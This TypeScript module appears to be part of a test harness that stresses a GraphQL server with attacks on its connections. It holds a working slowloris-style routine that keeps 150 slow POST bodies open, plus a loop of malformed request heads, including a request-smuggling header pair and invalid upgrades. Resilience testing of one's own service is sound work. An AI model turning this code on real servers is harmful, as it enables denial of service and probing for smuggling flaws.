import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import type { Attack } from "./attacks.ts";

const KEY = "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";

/** Heads that have ended a server or could: targets that are no path, upgrades to something else, both at once. */
const HEADS = [
  `GET // HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n${KEY}\r\n`,
  `GET http://[ HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n${KEY}\r\n`,
  `GET /graphql HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 99\r\n\r\n`,
  `GET /elsewhere HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n${KEY}\r\n`,
  "GET /health/live HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
  "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
  "\u0000\u0001\u0002 nonsense\r\n\r\n",
];

function open(url: string): Socket {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.on("error", () => undefined);
  return socket;
}

/** What is done below HTTP. */
export const byConnections = {
  "slow bodies": async ({ url, hostile }, over, tell) => {
    const sockets = new Set<Socket>();
    while (!over.aborted) {
      while (sockets.size < 150) {
        const socket = open(url);
        sockets.add(socket);
        socket.on("data", (data) => tell(String(data).slice(9, 12)));
        socket.on("close", () => sockets.delete(socket));
        socket.write(
          `POST /graphql HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${hostile.token}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n`,
        );
      }
      for (const socket of sockets) socket.write(" ");
      await pause(1_000);
    }
    tell(`${sockets.size} open at the end`);
    for (const socket of sockets) socket.destroy();
  },

  "heads that mean harm": async ({ url }, over, tell) => {
    for (let n = 0; !over.aborted; n += 1) {
      const socket = open(url);
      socket.write(HEADS[n % HEADS.length] ?? "");
      const answered = await Promise.race([
        new Promise<string>((resolve) => {
          socket.once("data", (data) => resolve(String(data).slice(9, 12)));
          socket.once("close", () => resolve("closed"));
        }),
        pause(2_000, "no answer"),
      ]);
      tell(answered);
      socket.destroy();
    }
  },
} satisfies Record<string, Attack>;
